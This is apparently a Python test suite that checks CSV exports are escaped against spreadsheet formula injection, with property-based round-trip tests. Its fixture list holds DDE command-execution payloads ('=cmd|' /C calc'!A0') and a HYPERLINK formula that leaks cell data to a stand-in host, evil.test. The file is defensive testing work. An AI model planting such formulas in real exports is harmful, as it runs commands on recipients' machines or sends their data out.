"""What leaves for a spreadsheet runs nothing there, and comes back as it was."""

from __future__ import annotations

import csv
import json
import re
from io import StringIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchfloor.domain.campaign import Audience
from watchfloor.intake.audience_file import AudienceReader
from watchfloor.intake.formula_marks import marked, marked_row, unmarked, unmarked_row
from watchfloor.intake.rejects import write_rejects

AUDIENCE = Audience(contact="phone", region="US", required=("first_name",))

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.test/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1x=cmd|!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "-",
    "+49a",
]
#: What people's rows hold, and no spreadsheet can do more with than count.
PLAIN = [
    "",
    "'",
    "'Jos\u00e9",
    "O'Neill",
    "+49 30 901820",
    "+49-30-901820",
    "+1 (202) 555-0123",
    "+12025550123;ext=9",
    "+1 202 555 0123 x12",
    "+1 202 555 0123 ext. 12",
    "-12.5",
    "12-3",
    "ann@example.org",
    "a=b",
    '"quoted"',
]

HOSTILE = st.text(
    st.sampled_from("=+-@'\" \t\r\n,;|01ax\uff1d\u00e9\0()"), max_size=12
) | st.sampled_from(FORMULAS + PLAIN)
DELIMITERS = st.sampled_from([",", ";", "\t", "|"])


def might_run(cell: str) -> bool:
    """Say so by another rule than the product's: more than a number behind a sign."""
    bare = cell.strip()
    if not re.match(r"[=@+\-\uff1d\uff0b\uff0d\uff20]", bare):
        return cell[:1] in {"\t", "\r", "\n"}
    number = re.sub(r"(;ext=|x|ext\.?)? ?[0-9]+$", "", bare[1:])
    return bare[0] not in "+-" or re.search(r"[^0-9 ()./-]", number) is not None


def written(cells: list[str], delimiter: str) -> str:
    row = StringIO()
    csv.writer(row, delimiter=delimiter, lineterminator="\r\n").writerow(cells)
    return row.getvalue().removesuffix("\r\n")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_marked_once_and_unmarked_again(cell):
    assert marked(cell) == f"'{cell}"
    assert unmarked(marked(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_what_can_only_be_counted_with_stays_as_it_is(cell):
    assert marked(cell) == unmarked(cell) == cell


@given(HOSTILE)
@settings(deadline=None)
def test_no_cell_that_goes_out_can_be_run_and_each_comes_back(cell):
    assert not might_run(marked(cell))
    assert unmarked(marked(cell)) == cell


@given(st.text(st.sampled_from("=+-@'\",;\t|01a \r\n"), max_size=40), DELIMITERS)
@settings(deadline=None)
def test_a_raw_row_comes_back_however_badly_it_is_quoted(raw, delimiter):
    assert unmarked_row(marked_row(raw, delimiter), delimiter) == raw


@given(st.lists(HOSTILE.filter(lambda cell: "\0" not in cell), min_size=1), DELIMITERS)
@settings(deadline=None)
def test_the_cells_of_a_row_are_marked_and_its_shape_is_kept(cells, delimiter):
    row = marked_row(written(cells, delimiter), delimiter)
    [read] = csv.reader(StringIO(row, newline=""), delimiter=delimiter, strict=True)

    assert read == [marked(cell) for cell in cells]


@given(
    st.lists(
        st.tuples(HOSTILE, HOSTILE).filter(lambda row: "\0" not in "".join(row)),
        min_size=1,
        max_size=5,
    )
)
@settings(max_examples=40, deadline=None)
def test_a_fix_file_holds_no_formula_and_its_values_come_back(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("fix")
    header = written(["phone", "first_name", "=note"], ",")
    raws = [written(["12", "Ann", *row], ",") for row in rows]
    fix = folder / "fix.csv"
    kept = [(number, "invalid", "too short", raw) for number, raw in enumerate(raws, 1)]
    with fix.open("w", encoding="utf-8", newline="") as out:
        write_rejects(out, f"{header},more", ",", kept)

    text = fix.read_bytes().decode()
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if might_run(cell)] == []

    mended = re.sub(r"(?m)(?<=,)12(?=,Ann,)", "2025550143", text)
    fix.write_text(mended, encoding="utf-8", newline="")
    with AudienceReader(fix, AUDIENCE) as reader:
        found = [one for batch in reader.batches() for one in batch.candidates]
        assert reader.columns == ("phone", "first_name", "=note", "more")
        assert reader.raw_header == f"{header},more"
    assert [json.loads(one.values_json)[1:] for one in found] == [
        ["Ann", *row] for row in rows
    ]
    assert [one.raw for one in found] == [
        raw.replace("12,Ann", "2025550143,Ann", 1) for raw in raws
    ]


def test_an_upload_that_is_no_fix_file_keeps_every_apostrophe(tmp_path):
    path = tmp_path / "upload.csv"
    path.write_text("phone,first_name\n2025550143,'=Ann\n", encoding="utf-8")

    with AudienceReader(path, AUDIENCE) as reader:
        (batch,) = reader.batches()

    assert json.loads(batch.candidates[0].values_json) == ["2025550143", "'=Ann"]
